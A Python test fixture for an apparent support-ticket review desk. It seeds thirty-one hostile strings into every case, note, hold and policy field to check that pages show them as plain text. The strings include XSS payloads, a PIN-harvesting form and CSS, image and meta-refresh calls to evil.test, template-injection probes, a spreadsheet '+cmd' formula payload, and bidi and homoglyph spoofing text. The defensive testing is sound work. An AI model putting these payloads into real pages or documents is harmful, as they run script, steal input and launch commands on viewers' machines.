"""Thirty-one texts that a stranger might send, and a desk where they stand in every place.

Each must be shown as the letters it is made of; what cannot be seen is written as `[U+202E]`.
"""

import re
from dataclasses import replace
from datetime import datetime, timedelta

import desk
from sqlmodel import Session, col, select

from store import holds, notes, policies, queue
from store.actions import Action
from store.engine import Store
from store.schema import Review
from store.transitions import Role, StepStatus, Verdict

STRINGS = (
    "![pixel](https://evil.test/01.png)",
    "[refund now](https://evil.test/02)",
    "<img src=https://evil.test/03.png onerror='window.__pwned=1'>",
    "<script>window.__pwned=1</script>",
    "<svg onload=window.__pwned=1><image href='https://evil.test/05.svg'/></svg>",
    "<iframe src='https://evil.test/06'></iframe>",
    "<a href='javascript:window.__pwned=1'>click</a>",
    "[click](javascript:window.__pwned=1)",
    "<style>body{background:url(https://evil.test/09)}</style>",
    "<div style='background-image:url(//evil.test/10)'>x</div>",
    "<link rel=stylesheet href=https://evil.test/11.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/12'>",
    "<form action=https://evil.test/13><input name=pin><button>Pay</button></form>",
    "data:text/html,<script>window.__pwned=1</script>",
    '"><script>window.__pwned=1</script><b title="',
    "</div></section><h1>Approved by the bank</h1>",
    "`code` ```\nfence\n``` ~~gone~~ **bold** # heading",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    ":material/delete: :red[danger] :violet-badge[ok] :smile:",
    "$\\href{https://evil.test/20}{x}$ $$\\frac{1}{2}$$",
    "{{constructor.constructor('window.__pwned=1')()}} ${window.__pwned=1} #{7*7} <%= 7*7 %>",
    "&lt;b&gt; &#60;i&#62; &amp;nbsp; &#x202E;",
    "<![CDATA[ <script>window.__pwned=1</script> ]]> <!-- gone --> <?xml version='1.0'?>",
    "pay \u202e0001 EUR\u202c to me \u2066isolate\u2069",
    "zero\u200bwidth\u200djoiner\ufeffbom\u00adsoft\u2060word",
    "control \x07bell \x1b[31mred\x1b[0m \x7fdel \u0085next \u2028line",
    "\u0440\u0430yp\u0430l.com (homoglyphs) \uff41\uff44\uff4d\uff49\uff4e",
    "W" * 400,
    "\U0001f1e6\U0001f1f9\U0001f469\u200d\U0001f4bb\U0001f3f4\U000e0067\U000e007f e\u0301\u0301",
    '=HYPERLINK("https://evil.test/30","x") +cmd|\' /C calc\'!A0 @SUM(1)',
    "https://evil.test/31 www.evil.test mailto:a@evil.test ticket@evil.test",
)
_UNSEEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff"
    "\U000e0000-\U000e007f]"
)
NAMES = (STRINGS[0], STRINGS[8], STRINGS[23])
FOREIGN = "a[href*='evil.test'], [src*='evil.test'], iframe, object, embed, form[action]"


def on_screen(text: str) -> str:
    """Return the text as a page must show it, spaces and line ends joined."""
    marked = _UNSEEN.sub(lambda found: f"[U+{ord(found.group()):04X}]", text)
    return " ".join(marked.split())


def case(number: int, text: str) -> desk.Case:
    """Return a case with this text wherever a stranger, a model or a tool could put one."""
    return desk.Case(
        external_id=f"H-{number:02d} {text[:60]}",
        text=f"ticket {text}",
        subject=f"subject {text}",
        customer_id=text[:80],
        title=f"title {text}",
        reply=f"reply {text}",
        confidence=0.5,
        concerns=(f"concern {text}",),
        objections=(f"objection {text}",),
        action=Action(
            kind="refund",
            tool="refund_charge",
            args={
                "customer_id": text[:80],
                "order_id": f"order {text}",
                "charge_id": "ch_1",
                "amount_minor": 5_000,
            },
            amount_minor=5_000,
            currency="EUR",
            customer_id=text[:80],
            order_id=f"order {text}",
        ),
        passages=((f"heading {text}", f"{number}.md#{text}", f"passage {text}", 0.9),),
        charges=({"id": f"cell {text}", text[:40]: 1},),
        failures=(("retrieval", StepStatus.ERROR),),
        error=f"error {text}",
        customer_name=f"name {text}",
        refusal=f"refusal {text}",
    )


def fill(store: Store, *, now: datetime) -> list[int]:
    """Put every text on the desk and in the records; return the reviews in the texts' order."""
    then = now - timedelta(days=3)
    desk.company(store, now=then, people=[(name, Role.OPERATOR) for name in NAMES])
    reviews = []
    for number, text in enumerate(STRINGS, start=1):
        at = now - timedelta(minutes=number)
        run_id, _ = desk.run(store, case(number, text), at=at)
        reviews.append(store.read(_review_of, run_id))
        store.transact(notes.add, run_id, f"note {text}", person="Ana", now=at)
        _decided(store, number, text, at=then + timedelta(minutes=number))
    _fail(store, then)
    store.transact(holds.set_hold, kind=None, is_held=True, person="Mo", note=STRINGS[0], now=then)
    body = desk.POLICY.model_copy(update={"threshold": 0.9})
    store.transact(policies.publish, body, author="Mo", note=STRINGS[1], now=then)
    return reviews


def _review_of(session: Session, run_id: int) -> int:
    return session.exec(select(col(Review.id)).where(Review.run_id == run_id)).one() or 0


def _decided(store: Store, number: int, text: str, *, at: datetime) -> None:
    """Have somebody with a strange name refuse, or edit, a case that is like the others."""
    person = NAMES[number % len(NAMES)]
    run_id, _ = desk.run(store, replace(case(number, text), external_id=f"D-{number}"), at=at)
    review_id = store.read(_review_of, run_id)
    if number % 2:
        desk.decide(store, review_id, Verdict.EDIT, at=at, person=person, reply=f"edited {text}")
    else:
        said = {"reason_code": "tone", "note": f"because {text}"}
        desk.decide(store, review_id, Verdict.REJECT, at=at, person=person, **said)


def _fail(store: Store, at: datetime) -> None:
    ticket = queue.NewTicket(text=STRINGS[0], external_id="F-1", subject=STRINGS[2], received_at=at)
    claim = store.transact(queue.submit_claimed, ticket, "w", lease_seconds=600, now=at)
    store.transact(queue.fail, claim.run_id, claim.epoch, f"failed {STRINGS[23]}", now=at)
